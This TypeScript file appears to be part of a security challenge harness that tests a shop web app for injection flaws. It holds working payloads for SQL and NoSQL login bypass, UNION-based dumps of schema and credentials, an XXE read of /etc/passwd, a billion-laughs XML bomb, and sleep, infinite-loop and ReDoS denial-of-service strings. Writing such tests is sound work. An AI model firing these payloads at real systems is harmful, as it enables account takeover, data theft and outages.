import { guestForm, itemForm, line } from '../../lib/market.ts';
import {
  all,
  any,
  changes,
  itemNow,
  letIn,
  saying,
  succeeded,
  type Challenge,
  type Shop,
  type Try,
} from './shop.ts';

/** What breaks out of a query where words are pasted into one, in SQL and in MongoDB. */
const escapes = (email: string) => [
  { email: `${email}'--`, password: 'x' },
  { email: `' OR 1=1--`, password: 'x' },
  { email, password: `' OR '1'='1` },
  { email, password: `' || '1'=='1` },
  { email: { $eq: email }, password: { $ne: null } },
  { email, password: { $ne: null } },
  { email: { $gt: '' }, password: { $gt: '' } },
  { email: { $regex: '^' }, password: { $regex: '^' } },
  { email: [email], password: [''] },
  { 'email[$ne]': 'x', 'password[$ne]': 'x' },
  { $where: 'true', email, password: 'x' },
];
const logIn = (body: unknown): Try => ['post', '/api/users/login', { body }];
const breakIn = (shop: Shop, email: string) => any(shop, escapes(email).map(logIn), letIn);

const unions = [
  `')) UNION SELECT sql,2,3,4,5,6,7,8,9 FROM sqlite_master--`,
  `' UNION SELECT id,email,password FROM Users--`,
  `'; return db.getCollectionNames(); var x='`,
  '.*',
  '$where',
];
/** Everything that is searched or filtered by. */
const searches = ({ item, chef }: Shop, words: string): Try[] => {
  const q = encodeURIComponent(words);
  return [
    ['get', `/api/products?name=${q}`],
    ['get', `/api/products?name[$regex]=.*&name[$where]=${q}`],
    ['get', `/api/products?category=${q}`],
    ['get', `/api/products?sort=${q}`],
    ['get', `/api/products/${q}`],
    ['get', `/api/products/${item._id}?$where=${q}`],
    ['get', `/api/products/chef/${chef._id}?q=${q}`],
    ['get', `/api/users/guest/${q}`],
    ['get', `/api/zip/${q}`],
  ];
};
const asked = (shop: Shop, words: readonly string[]) => words.flatMap((one) => searches(shop, one));

/** An answer that did not come at once: the words sent were obeyed. */
async function slow(shop: Shop, tries: readonly Try[]): Promise<boolean> {
  const begun = performance.now();
  await all(shop, tries);
  return performance.now() - begun > 8_000;
}

const formulas = ['#{7*191}', '{{7*191}}', '${7*191}', '<%= 7*191 %>', '{7*191}'];

/** Words that are to be taken for commands. */
export const injection: readonly Challenge[] = [
  {
    name: 'Login Admin',
    tried: 'sign in as the admin with operators, quotes and comments instead of a password',
    sign: 'a token',
    solved: (shop) => breakIn(shop, shop.admin.email),
  },
  {
    name: 'Login Jim',
    tried: 'the same with a member whose e-mail is known',
    sign: 'a token',
    solved: (shop) => breakIn(shop, shop.member.email),
  },
  {
    name: 'Login Bender',
    tried: 'the same with a chef, in capitals and with spaces around',
    sign: 'a token',
    solved: (shop) => breakIn(shop, ` ${shop.chef.email.toUpperCase()} `),
  },
  {
    name: 'Ephemeral Accountant',
    tried: 'sign in as someone who was never registered, made up on the way',
    sign: 'a token',
    solved: (shop) => {
      const email = 'accountant@example.com';
      const made = { _id: 'f'.repeat(24), email, isAdmin: true, passwordHash: '', tokenVersion: 0 };
      const union = `' UNION SELECT * FROM (SELECT 15 AS id, '${email}' AS email)--`;
      return any(
        shop,
        [...escapes(email), { ...made, password: '' }, { email: union, password: 'x' }].map(logIn),
        letIn,
      );
    },
  },
  {
    name: 'Database Schema',
    tried: 'ask every search and filter for what the database is made of',
    sign: 'a name that only the database knows',
    solved: (shop) =>
      any(shop, asked(shop, unions), saying(/passwordHash|tokenVersion|stockMoves|ratingSum|sqlite/)),
  },
  {
    name: 'User Credentials',
    tried: 'ask every search and filter for accounts',
    sign: 'a hash, or a member’s e-mail',
    solved: (shop) =>
      any(
        shop,
        asked(shop, unions),
        (reply) => saying(/\$2[aby]\$/)(reply) || saying(shop.member.email)(reply),
      ),
  },
  {
    name: 'Christmas Special',
    tried: 'order a draft and a deleted item',
    sign: 'an order',
    solved: async (shop) => {
      const { market, chef, member } = shop;
      const draft = (await market.call('post', '/api/products', { token: chef.token })).body as {
        _id: string;
      };
      const gone = await market.item(chef);
      await market.call('delete', `/api/products/${gone._id}`, { token: chef.token });
      const lines = [draft, gone].map((item) => [line(item)]);
      const tries = lines.flatMap((orderItems): Try[] => [
        ['post', '/api/orders/guest', { body: guestForm(orderItems) }],
        [
          'post',
          '/api/orders',
          { body: { orderItems, deleted: false, published: true }, token: member.token },
        ],
      ]);
      return any(shop, tries, succeeded);
    },
  },
  {
    name: 'NoSQL DoS',
    tried: 'let the database sleep for ten seconds',
    sign: 'answers that take as long',
    solved: (shop) =>
      slow(shop, asked(shop, ['sleep(10000)', `';sleep(10000);'`, '{"$where":"sleep(10000)"}'])),
  },
  {
    name: 'NoSQL Exfiltration',
    tried: 'read every order with a condition that is always true instead of a number',
    sign: 'an order',
    solved: (shop) => {
      const conditions = [`' || true || '`, '{"$ne":null}', '[$ne]', '*', '.*', `${shop.order._id}' || '1`];
      const paths = conditions.flatMap((words) => {
        const id = encodeURIComponent(words);
        return [`/api/orders/guest/${id}`, `/api/orders/${id}`, `/api/orders/${id}/${shop.thief._id}`];
      });
      const tries = paths.map((path): Try => ['get', path, { token: shop.thief.token }]);
      return any(shop, tries, saying('"orderItems"'));
    },
  },
  {
    name: 'NoSQL Manipulation',
    tried: 'change many items or reviews at once with a condition for an id',
    sign: 'an item that changed',
    solved: (shop) => {
      const id = { $ne: -1 };
      const everything = encodeURIComponent(JSON.stringify(id));
      const body = {
        id,
        _id: id,
        rating: 1,
        comment: 'the same for all',
        ...itemForm({ name: 'Taken over' }),
      };
      const { token } = shop.thief;
      const tries: Try[] = [
        ['post', `/api/products/${everything}/reviews`, { body, token }],
        ['patch', '/api/products/reviews', { body, token }],
        ['put', `/api/products/${everything}`, { body, token }],
        ['put', `/api/products/${everything}`, { body, token: shop.otherChef.token }],
        ['put', `/api/products/${everything}/0`, { body, token: shop.otherChef.token }],
        ['delete', `/api/products/${everything}`, { token: shop.otherChef.token }],
      ];
      return changes(shop, tries, async ({ market, ...rest }) => [
        await itemNow({ market, ...rest }),
        await market.collection('reviews').countDocuments(),
        await market.collection('products').countDocuments({ name: { $ne: 'Taken over' } }),
      ]);
    },
  },
  {
    name: 'SSTi',
    tried: 'type formulas into a name, a dish and an address, and look at the pages made of them',
    sign: 'the result of the formula',
    solved: async (shop) => {
      const { market, chef } = shop;
      const name = formulas.join(' ');
      const item = await market.item(chef, { name, description: name });
      const cook = await market.chef({ name });
      const path = encodeURIComponent(name);
      const html = { Accept: 'text/html' };
      const tries = [`/product/${item._id}`, `/chefs/${cook._id}`, `/search/${path}`, `/?q=${path}`].map(
        (page): Try => ['get', page, { headers: html }],
      );
      const json: Try[] = [
        ['get', `/api/products/${item._id}`],
        ['get', `/api/nothing/${path}`],
      ];
      return any(shop, [...tries, ...json], saying('1337'));
    },
  },
  {
    name: 'XXE Data Access',
    tried: 'send XML that reads a file of the server, as data and as a picture',
    sign: 'what stands in that file',
    solved: (shop) =>
      any(shop, xml(shop, entity('<!ENTITY x SYSTEM "file:///etc/passwd">')), saying(/root:.*:0:0/)),
  },
  {
    name: 'XXE DoS',
    tried: 'send XML whose words unfold a billion times',
    sign: 'answers that take long',
    solved: (shop) => {
      const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`);
      return slow(shop, xml(shop, entity(`<!ENTITY e0 "ha">${laughs.join('')}<!ENTITY x "&e9;">`)));
    },
  },
  {
    name: 'Blocked RCE DoS',
    tried: 'send code that never ends wherever an order takes words',
    sign: 'answers that take long',
    solved: (shop) => slow(shop, code(shop, '(function forever(){while(true);})()')),
  },
  {
    name: 'Successful RCE DoS',
    tried: 'send patterns and words that a careless check chews on for ages',
    sign: 'answers that take long',
    solved: (shop) => {
      const chewy = [
        '/((a+)+)b/.test("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")',
        `${'a'.repeat(180)}!`,
        '(a+)+$',
        ' '.repeat(190),
      ];
      return slow(shop, [...chewy.flatMap((words) => code(shop, words)), ...asked(shop, chewy)]);
    },
  },
];

const entity = (definitions: string) =>
  `<?xml version="1.0"?><!DOCTYPE svg [${definitions}]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`;

function xml({ chef }: Shop, document: string): Try[] {
  const { token } = chef;
  const types = ['application/xml', 'text/xml', 'image/svg+xml', 'application/json'];
  const paths = [
    '/api/products',
    '/api/upload',
    '/api/orders/guest',
    '/api/users/login',
    '/file-upload',
    '/b2b/v2/orders',
  ];
  return paths.flatMap((path) =>
    types.map((type): Try => ['post', path, { body: document, token, headers: { 'Content-Type': type } }]),
  );
}

function code({ item, thief }: Shop, words: string): Try[] {
  const { token } = thief;
  const form = guestForm([{ ...line(item), qty: words }], {
    userName: words,
    userEmail: words,
    customerPhone: words,
  });
  const register = { name: words, email: `${words}@example.com`, phone: words, password: words };
  return [
    ['post', '/api/orders/guest', { body: form }],
    ['post', '/b2b/v2/orders', { body: { cid: words, orderLinesData: words }, token }],
    ['post', '/api/orders', { body: { orderItems: words, shippingAddress: words }, token }],
    ['post', '/api/users', { body: register }],
    ['post', `/api/products/${item._id}/reviews`, { body: { rating: words, comment: words }, token }],
    ['get', `/api/orders/guest/${encodeURIComponent(words)}`],
  ];
}
